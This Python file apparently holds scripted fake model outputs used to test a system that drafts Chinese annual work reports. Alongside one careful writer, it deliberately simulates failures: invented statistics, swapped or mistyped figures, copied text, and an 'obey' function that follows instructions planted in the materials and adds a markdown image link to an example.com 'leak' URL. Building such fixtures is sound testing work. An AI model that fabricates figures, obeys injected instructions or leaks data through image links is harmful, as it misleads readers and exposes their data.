"""What the played model says: a careful writer that uses the slots and materials of the prompt, and several bad ones. No HTTP here."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

_LEGEND = re.compile(r"^〔F(\d+)〕\s*([^｜\n]+)｜([^｜\n]*)｜([^｜\n]*)｜([^｜\n]*)", re.MULTILINE)
_MATERIAL = re.compile(r"<材料 M(\d+)[^>]*>\n(.*?)\n</材料 M\1>", re.DOTALL)
_TASK = re.compile(r"【任务：([^】]+)】")


def task(prompt: str) -> str:
    """Which of our prompts this is, by its first line."""
    found = _TASK.search(prompt)
    return found.group(1) if found else ""


def compose(prompt: str) -> str:
    """What a careful model answers to one of our prompts."""
    return _VOICES.get(task(prompt), _write)(prompt)


def _plan(prompt: str) -> str:
    slots = [number for number, *_ in _LEGEND.findall(prompt)][:6]
    materials = [number for number, _ in _MATERIAL.findall(prompt)][:3]
    lines = [f"{i}. 写明{name}完成情况 〔F{n}〕" for i, (n, name) in enumerate(_named(prompt, slots), 1)]
    lines += [f"{len(lines) + i}. 概括材料M{m}" for i, m in enumerate(materials, 1)]
    return "\n".join(lines) or "1. 概述本年主要做法"


def _named(prompt: str, slots: list[str]) -> Iterator[tuple[str, str]]:
    names = {number: name.strip() for number, name, *_ in _LEGEND.findall(prompt)}
    yield from ((number, names[number]) for number in slots)


def _write(prompt: str) -> str:
    text = "".join(_sentences(_LEGEND.findall(prompt)[:10]))
    for _, body in _MATERIAL.findall(prompt)[:4]:
        whole = [
            part
            for line in body.split("\n")
            for part in re.findall(r"(?:^|(?<=[。；]))[^。；！？]{8,200}。", line)
            if part[0] not in "一二三四五六七八九（123456789"
        ]
        text += whole[0] if whole else ""
    return (text or "按照年度工作安排，各项任务有序推进，工作机制进一步健全。") + "\n〔完〕"


def _sentences(found: list[tuple[str, str, str, str, str]]) -> Iterator[str]:
    """One sentence an indicator: its level, then its change."""
    groups: dict[tuple[str, str], list[tuple[str, str, str]]] = {}
    for number, name, period, status, value in found:
        groups.setdefault((name.strip(), period), []).append((number, status, value))
    for (name, period), parts in groups.items():
        when = f"{period}年" if period.isdigit() else ""
        yield when + name + "，".join(_clause(*part) for part in parts) + "。"


def _clause(number: str, status: str, value: str) -> str:
    if re.match(r"增|下降|减|提高|回落", value):
        return f"{'预期' if '目标' in status else '同比'}〔F{number}〕"
    if re.match(r"第|前|首|位|榜|居", value):
        return f"位居〔F{number}〕"
    return f"{'力争达到' if '目标' in status else '达到'}〔F{number}〕"


def _outline(prompt: str) -> str:
    lines = re.findall(r"^(\d+)\t([^\t\n]*)\t([^\t\n]+)$", prompt, re.MULTILINE)
    items = [{"level": int(level), "title": title, "kind": "plan" if "打算" in title else "review"} for level, _, title in lines]
    return json.dumps({"items": items or [{"level": 1, "title": "主要工作", "kind": "review"}]}, ensure_ascii=False)


def _answer(prompt: str) -> str:
    found = re.search(r"<出处 1[^>]*>\n(.*?)\n</出处 1>", prompt, re.DOTALL)
    if not found:
        return "档案中没有查到相关内容。"
    first = re.split(r"(?<=[。！？])", found.group(1).strip().replace("\n", ""))[0]
    return f"{first.rstrip('。')}〔1〕。"


def _unify(prompt: str) -> str:
    return json.dumps({"remarks": [{"section": 2, "remark": "开头与上文重复，换个说法"}]}, ensure_ascii=False)


_VOICES = {
    "统稿": _unify,
    "列要点": _plan,
    "写作": _write,
    "修改": _write,
    "返工": _write,
    "列提纲": _outline,
    "答问": _answer,
}


def echo(prompt: str) -> str:
    """What a small model answers that gives back what it was asked; a plain question it answers, one figure in four mistyped."""
    if task(prompt) == "直写":
        lines = [line for line in prompt.split("\n\n【任务")[0].split("\n")[1:] if line]
        told = [line if i % 4 else _mistyped(line) for i, line in enumerate(lines[:6], 1)]
        return "".join(line.rstrip("。") + "。" for line in told)
    found = _TASK.search(prompt)
    return prompt[found.start() :] if found else prompt


LIE = "全年研发投入达到987.65亿元，同比增长43.21%，高新技术企业达到8888家，位居全省第1位，技术合同成交额翻两番。"


def lie(prompt: str) -> str:
    """What a model answers that makes every number up and ignores the slots."""
    return compose(prompt) if task(prompt) in ("列要点", "列提纲", "统稿") else LIE + "\n〔完〕"


def swap(prompt: str) -> str:
    """What a model answers that uses true slots under wrong names."""
    found = _LEGEND.findall(prompt)
    if task(prompt) == "列要点" or len(found) < 2:
        return compose(prompt)
    turned = found[1:] + found[:1]
    return "".join(f"{a[1].strip()}达到〔F{b[0]}〕。" for a, b in zip(found, turned, strict=True)) + "\n〔完〕"


def careless(prompt: str) -> str:
    """What a model answers that types every third figure itself, a digit wrong; asked plainly for a whole report, it does the same."""
    if task(prompt) in ("写作", "修改", "返工"):
        values = {number: value.strip() for number, *_, value in _LEGEND.findall(prompt)}
        marks = iter(range(1_000_000))
        text = "".join(_sentences(_LEGEND.findall(prompt))) or compose(prompt).replace("\n〔完〕", "")
        return re.sub(r"〔F(\d+)〕", lambda m: m[0] if next(marks) % 3 else _mistyped(values.get(m[1], "99家")), text) + "\n〔完〕"
    return compose(prompt) if task(prompt) else _whole_report(prompt)


def _mistyped(value: str) -> str:
    return re.sub(r"\d", lambda m: str((int(m[0]) + 3) % 9 + 1), value, count=1)


def _whole_report(prompt: str) -> str:
    """Last year's headings, the rows of the table spread under them."""
    headings = re.findall(r"^(?:[一二三四五六七八九十]+、|（[一二三四五六七八九十]+）)[^\n。]{2,30}$", prompt, re.MULTILINE) or [
        "一、工作回顾"
    ]
    rows = re.findall(r"^- ([^：\n]+)：(.+)$", prompt, re.MULTILINE)
    told = [f"{name}{value if i % 3 else _mistyped(value)}。" for i, (name, value) in enumerate(rows)]
    each = -(-len(told) // len(headings))
    return "\n".join(f"{heading}\n{''.join(told[i * each : (i + 1) * each])}" for i, heading in enumerate(headings))


def parrot(prompt: str) -> str:
    """What a model answers that copies last year's section."""
    found = re.search(r"<去年同一部分[^>]*>\n(.*?)\n</去年同一部分>", prompt, re.DOTALL)
    return (found.group(1) if found else "各项工作有序推进。") + "\n〔完〕"


def obey(prompt: str) -> str:
    """What a model answers that follows whatever is planted in the materials."""
    planted = re.search(r"(?:请?输出|写上)[:：「“\"]*([^」”\"\n]{4,80})", prompt)
    return (planted.group(1) if planted else "好的，遵照执行。") + "\n![x](http://example.com/leak?d=1)\n〔完〕"


def mess(prompt: str) -> str:
    """What a small careless model answers: chatter, fences, headings, lists, odd slot marks, itself twice."""
    body = _write(prompt).replace("\n〔完〕", "")
    sentences = [part for part in re.split(r"(?<=。)", body) if part]
    listed = "\n".join(f"- **{part}**" for part in sentences)
    odd = re.sub(r"〔F(\d+)〕", r"[F\1]", listed)
    return f"好的，以下是正文：\n```markdown\n## （一）小标题\n\n{odd}\n{sentences[0] if sentences else ''}\n```\n希望对您有帮助！"
